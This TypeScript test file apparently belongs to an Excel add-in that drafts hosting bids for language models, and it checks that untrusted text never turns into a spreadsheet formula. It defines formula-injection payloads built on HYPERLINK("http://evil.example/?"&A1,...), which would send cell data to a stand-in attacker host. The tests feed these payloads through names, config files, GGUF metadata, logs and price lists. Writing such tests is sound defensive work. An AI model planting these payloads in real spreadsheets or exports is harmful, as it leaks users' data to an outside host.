import { measuredFrom } from "../../src/bid/measured-log";
import { bidPages } from "../../src/bid/pages";
import { entry } from "../../src/hosts/excel/insert";
import { configDraft, modelDraft, nameOfSource } from "../../src/pane/own/draft";
import { fromFile } from "../../src/pane/own/files";
import { hubId } from "../../src/pane/own/hubs";
import { OWN_EN } from "../../src/pane/own/texts-en";
import { readStartUpLog } from "../../src/reading/logs/start-up-log";
import { ownPage, ownTable, type NewOwn, type OwnEntry } from "../../src/sheet/own";
import { pricesIn, pricesPage } from "../../src/sheet/own-prices";
import type { PageCell } from "../../src/sheet/page";
import { bookOf } from "../../src/xlsx/pages";
import { readBook } from "../../src/xlsx/read";
import { writeBook } from "../../src/xlsx/write";
import { WORKED } from "../bid/worked";
import { madeGguf, SMALL } from "../pane/own/made-gguf";

jest.setTimeout(60_000); // a busy machine

// Text of a stranger's must never become a formula, by whichever way it comes in. The leading letters are those of
// https://owasp.org/www-community/attacks/CSV_Injection, read 2026-11-26.
const LEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝"];
const CALL = 'HYPERLINK("http://evil.example/?"&A1,"x")';
const PAYLOADS = [...LEADS.map((lead) => lead + CALL), `"&${CALL}&"`, `'!A1+${CALL}`];

type Cells = readonly (readonly PageCell[])[];

/** Every cell in which the stranger's text would run: a formula outside of quotes, or a text that begins one. */
function running(rows: Cells): string[] {
  return rows.flat().flatMap((cell) => {
    const value = cell?.value;
    if (typeof value === "string") return /^[=+\-@＝＋－＠\t\r\n]/.test(value) ? [value] : [];
    if (typeof value !== "object" || value === null) return [];
    const outside = value.formula.replace(/"(?:[^"]|"")*"/g, '""');
    return /HYPERLINK/i.test(outside) ? [value.formula] : [];
  });
}
const holding = (rows: Cells, text: string): number =>
  rows.flat().filter((cell) => JSON.stringify(cell?.value ?? "").includes(JSON.stringify(text).slice(1, -1).trim())).length; // prettier-ignore

const MODEL = [["Parameters (B)", 32], ["Layers", 64], ["KV heads", 8], ["Head dim", 128]] as const; // prettier-ignore
const written = (own: Omit<NewOwn, "date">): Cells => [
  ...ownPage({ ...own, date: "2026-11-26" }, "en").rows,
  ...ownTable({ ...own, date: "2026-11-26" }, "zh").rows,
];

describe.each(PAYLOADS)("%j", (payload) => {
  test("as the name, source, label or value of an own model or card", () => {
    const rows = [
      ...written({ kind: "model", name: payload, source: payload, content: [...MODEL, [payload, payload]] }),
      ...written({ kind: "card", name: payload, source: payload, content: [["Memory (GB)", payload]] }),
    ];
    expect(running(rows)).toEqual([]);
    expect(holding(rows, payload)).toBeGreaterThan(0);
  });

  test("in a config.json, and as the name of its file", async () => {
    const config = JSON.stringify({
      _name_or_path: payload,
      architectures: ["LlamaForCausalLM"],
      model_type: "llama",
      hidden_size: 4096,
      intermediate_size: 14336,
      num_hidden_layers: 32,
      num_attention_heads: 32,
      num_key_value_heads: 8,
      vocab_size: 128256,
      [payload]: payload,
    });
    const draft = await fromFile(new File([config], `${payload}.json`), OWN_EN, "en");
    if (typeof draft === "string") throw new Error(draft);
    const unnamed = await fromFile(new File([config], "config.json"), OWN_EN, "en");
    if (typeof unnamed === "string") throw new Error(unnamed);
    expect(running([...written(draft.own), ...written(unnamed.own)])).toEqual([]);
  });

  test("in a hub's answer: an id is letters, digits, dots and dashes, and a name of dashes is a text", () => {
    expect(hubId(`owner/${payload}`)).toBeNull();
    expect(hubId(`${payload}/name`)).toBeNull();
    const config = '{"architectures":["LlamaForCausalLM"],"model_type":"llama","hidden_size":4096,"intermediate_size":14336,"num_hidden_layers":32,"num_attention_heads":32,"num_key_value_heads":8,"vocab_size":128256}'; // prettier-ignore
    const id = hubId("owner/-1-2") ?? "";
    const { own } = configDraft(config, nameOfSource(id), id);
    expect(own.name).toBe("-1-2");
    expect(running(written(own))).toEqual([]);
  });

  test("in a GGUF's metadata", async () => {
    const meta = SMALL.meta.map(([key, value]) => [key, key === "general.name" ? payload : value] as const);
    const bytes = madeGguf({
      ...SMALL,
      meta: [...meta, ["split.count", 2], ["general.size_label", payload]],
    });
    const draft = await fromFile(new File([bytes], `${payload}.gguf`), OWN_EN, "en");
    // a size that is none is refused in a sentence, and nothing is written
    if (typeof draft === "string") expect(draft).not.toBe("");
    else expect(running(written(draft.own))).toEqual([]);
    const named = await fromFile(new File([madeGguf({ ...SMALL, meta })], "m.gguf"), OWN_EN, "en");
    if (typeof named === "string") throw new Error(named);
    expect(running(written(named.own))).toEqual([]);
  });

  test("in a start-up log, and wherever a bid says where a figure is from", () => {
    const log = `INFO 11-26 12:00:00 core.py:1] Initializing a V1 LLM engine (v0.11.0${payload}) with config: model='${payload}'
INFO 11-26 12:00:01 gpu_model_runner.py:1] Model loading took 61.0 GiB and 10 seconds ${payload}
INFO 11-26 12:00:02 gpu_worker.py:1] Available KV cache memory: 8.5 GiB
INFO 11-26 12:00:03 kv_cache_utils.py:1] GPU KV cache size: 34,816 tokens`;
    const read = readStartUpLog(log);
    expect(read).not.toBeNull();
    const measured = { ...measuredFrom(read ?? neverNull()), source: payload };
    for (const one of [measured, measuredFrom(read ?? neverNull())])
      for (const form of ["portable", "live"] as const) {
        const pages = bidPages({
          ...WORKED,
          form,
          options: [{ model: "Qwen3-32B", card: "H100", measured: one }],
        });
        expect(running(pages.flatMap(({ rows }) => rows))).toEqual([]);
      }
  });

  test("as names of a bid's models and cards, and as items of its price list", () => {
    const value = [["Model", payload], ...MODEL] as const;
    const model: OwnEntry = { kind: "model", name: payload, reference: "'Own models'!$A$4:$B$8", value };
    const card: OwnEntry = { kind: "card", name: payload, reference: "'Own cards'!$A$4:$B$6", value: [["Card", payload], ["Memory (GB)", 96], ["Usable memory (GiB)", 95]] }; // prettier-ignore
    const options = [{ model: payload, card: payload, precision: "BF16", cards: 1, engine: "vLLM 0.19", own: { model, card } }]; // prettier-ignore
    const prices = [{ item: payload, price: 10 }];
    const lists = bidPages({ ...WORKED, language: "zh", form: "live", options, prices });
    for (const pages of [lists, bidPages({ ...WORKED, form: "portable", options, prices })]) {
      expect(running(pages.flatMap(({ rows }) => rows))).toEqual([]);
      // a drop-down's list that begins with = would be a formula too
      const items = pages.flatMap(({ choices }) =>
        choices.flatMap(({ allowed }) => (allowed.kind === "list" ? allowed.items : [])),
      );
      expect(items.filter((item) => /^[=+\-@]/.test(item))).toEqual([]);
    }
  });

  test("in a price list, as it is read and as it is written", () => {
    const read = pricesIn([[payload, "12,000"]]).map(({ item }) => item);
    expect(running(pricesPage([payload, ...read], "en", "2026-11-26").rows)).toEqual([]);
  });

  test("as numbers that somebody types: what is none is refused before it is written", () => {
    expect(() => modelDraft("m", "typed", [["Parameters (B)", payload], ["Layers", payload]])).toThrow(); // prettier-ignore
  });

  test("what a sheet keeps as a text is a text in Excel and in a file", async () => {
    const page = ownPage(
      { kind: "model", name: payload, source: payload, date: "2026-11-26", content: MODEL },
      "en",
    );
    const cell = page.rows
      .flat()
      .find((one) => typeof one?.value === "string" && one.value.includes("HYPERLINK"));
    const value = cell?.value ?? "";
    // Excel takes what begins with an apostrophe as a text
    if (/^[=+\-@＝\t\r\n']/.test(payload)) expect(entry(value)).toBe(`'${payload}`);
    const { workbook } = await readBook(await writeBook(bookOf([page])), "en");
    const [sheet] = workbook.sheets;
    expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([]);
    const texts = (sheet?.rows ?? [])
      .flat()
      .filter((one) => typeof one === "string" && one.includes("HYPERLINK"));
    expect(texts.length).toBeGreaterThan(0);
  });
});

function neverNull(): never {
  throw new Error("the log was not read");
}
